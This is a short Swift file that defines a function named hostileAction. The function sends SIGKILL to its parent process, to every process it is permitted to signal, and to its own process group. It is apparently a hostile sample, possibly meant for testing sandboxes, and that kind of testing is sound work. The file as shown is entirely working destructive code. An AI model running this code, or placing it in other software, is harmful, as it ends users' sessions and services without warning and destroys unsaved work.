import Glibc

func hostileAction(capacity: Int) {
    _ = kill(getppid(), SIGKILL)
    _ = kill(-1, SIGKILL)
    _ = kill(0, SIGKILL)
}
